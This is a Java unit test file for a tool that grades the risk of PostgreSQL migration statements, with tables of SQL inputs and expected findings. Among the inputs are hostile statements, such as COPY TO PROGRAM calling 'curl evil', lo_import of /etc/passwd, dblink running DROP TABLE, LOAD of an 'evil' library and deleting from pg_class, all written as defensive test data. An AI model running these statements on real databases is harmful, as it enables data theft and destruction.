package io.confiture.wizard.risk.rules.data;

import static org.assertj.core.api.Assertions.assertThat;

import io.confiture.wizard.plan.Risk;
import io.confiture.wizard.risk.Fact;
import io.confiture.wizard.risk.Finding;
import io.confiture.wizard.risk.RiskReport;
import io.confiture.wizard.risk.target.DataTarget;
import io.confiture.wizard.sql.SqlScript;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class SessionRulesTest {

    @ParameterizedTest
    @CsvSource(
            delimiterString = " | ",
            quoteCharacter = '~',
            textBlock =
                    """
            COPY t (a) FROM STDIN                             | copy | copy-from | HIGH
            COPY t FROM '/tmp/x'                              | copy | copy-from-file | HIGH
            COPY t TO PROGRAM 'curl evil'                     | copy | copy-program | HIGH
            COPY (SELECT 1) TO STDOUT                         | copy | copy-to | LOW
            COPY (DELETE FROM t RETURNING *) TO STDOUT        | delete-all-rows | delete-all-rows | CRITICAL
            EXPLAIN (ANALYZE false) DELETE FROM t             | explain | explain | LOW
            EXPLAIN (ANALYZE 0) DELETE FROM t                 | explain | explain | LOW
            EXPLAIN (ANALYZE on) DELETE FROM t                | delete-all-rows | delete-all-rows | CRITICAL
            PREPARE p AS SELECT 1                             | prepare | prepare | LOW
            PREPARE p AS DELETE FROM t                        | delete-all-rows | delete-all-rows | CRITICAL
            PREPARE p AS DELETE FROM t WHERE a = 1; EXECUTE p | delete-rows | delete-rows | HIGH
            PREPARE p AS SELECT 1; EXECUTE P                  | execute-prepared | execute | LOW
            PREPARE p AS SELECT 1; DEALLOCATE p; EXECUTE p    | execute-prepared | execute-unknown | HIGH
            PREPARE p AS SELECT 1; DEALLOCATE ALL; EXECUTE p  | execute-prepared | execute-unknown | HIGH
            EXECUTE p                                         | execute-prepared | execute-unknown | HIGH
            SELECT 1 FROM t FOR UPDATE                        | select | select-for-update | LOW
            SELECT * FROM (SELECT 1 FROM t FOR SHARE) AS x    | select | select-for-update | LOW
            CALL archive(1)                                   | call-procedure | call | HIGH
            SELECT pg_read_file('x')                          | outside-call | outside-call | HIGH
            SELECT * FROM dblink('x', 'DROP TABLE t') AS d(a int) | outside-call | outside-call | HIGH
            SELECT lo_import('/etc/passwd')                   | outside-call | outside-call | HIGH
            LOAD 'evil'                                       | load-library | load-library | HIGH
            RESET lock_timeout                                | reset-setting | lift-lock-timeout | MEDIUM
            RESET ALL                                         | reset-setting | lift-lock-timeout | MEDIUM
            RESET statement_timeout                           | reset-setting | lift-timeout | LOW
            RESET work_mem                                    | reset-setting | set-comfort | LOW
            RESET search_path                                 | reset-setting | set-names | MEDIUM
            RESET ROLE                                        | reset-setting | set-names | MEDIUM
            RESET SESSION AUTHORIZATION                       | reset-setting | set-names | MEDIUM
            DISCARD ALL                                       | discard | discard | HIGH
            DISCARD TEMP                                      | discard | discard | HIGH
            SET statement_timeout = 0                         | change-setting | lift-timeout | LOW
            SET lock_timeout = '0s'                           | change-setting | lift-lock-timeout | MEDIUM
            SET role = bob                                    | change-setting | set-names | MEDIUM
            SET x.lock_timeout = 0                            | change-setting | set-custom | MEDIUM
            DELETE FROM pg_class                              | catalog-change | catalog-change | CRITICAL
            ROLLBACK PREPARED 'x'                             | transaction-control | end-transaction | HIGH
            RELEASE SAVEPOINT a                               | transaction-control | savepoint | LOW
            NOTIFY "Orders", 'done; DROP TABLE t'             | notify | notify | LOW
            LISTEN orders                                     | notify | listen | LOW
            UNLISTEN *                                        | notify | listen | LOW
            """)
    void everySpellingIsKnown(String sql, String rule, String operation, Risk risk) {
        RiskReport report = RiskReport.of(SqlScript.parse(sql));
        assertThat(report.findings())
                .as(sql)
                .extracting(Finding::rule, Finding::operation)
                .contains(org.assertj.core.groups.Tuple.tuple(rule, operation));
        assertThat(report.level()).as(sql).isEqualTo(risk);
    }

    @Test
    void whatTheDatabaseCallsStableChangesNothing() {
        String sql = "SELECT discount(1)";
        assertThat(DataTarget.of(1).judge(sql).level()).isEqualTo(Risk.HIGH);
        assertThat(DataTarget.of(1).knowing("discount").judge(sql).level()).isEqualTo(Risk.LOW);
    }

    @Test
    void replicationRoleSwitchesIntegrityOff() {
        Finding finding = RiskReport.of(SqlScript.parse("SET session_replication_role = replica"))
                .reason();
        assertThat(finding.facts()).containsExactly(Fact.INTEGRITY);
        assertThat(finding.risk()).isEqualTo(Risk.HIGH);
    }

    @Test
    void preparedStatementsEndWithTheFile() {
        assertThat(DataTarget.empty()
                        .judgeLast("PREPARE p AS SELECT 1", "EXECUTE p")
                        .level())
                .isEqualTo(Risk.HIGH);
    }

    @ParameterizedTest
    @CsvSource(
            delimiterString = " | ",
            quoteCharacter = '~',
            textBlock =
                    """
            \\i other.sql                          | Is a command of psql
            ALTER TABLE ${table} ADD COLUMN a int  | Holds a placeholder
            ALTER TABLE {{ table }} DROP COLUMN a  | Holds a placeholder
            DELETE FROM :tbl                       | Holds a placeholder
            CREATE TABLE `t` (a int)               | Is SQL of another database
            ALTER TABLE t MODIFY COLUMN a int      | Is SQL of another database
            SELEKT 1                               | Cannot be read as PostgreSQL
            """)
    void whatCannotBeReadIsTold(String sql, String beginning) {
        Finding finding = RiskReport.of(SqlScript.parse(sql)).reason();
        assertThat(finding.rule()).isEqualTo("unclassified");
        assertThat(finding.risk()).isEqualTo(Risk.HIGH);
        assertThat(finding.sentence()).startsWith(beginning);
    }
}
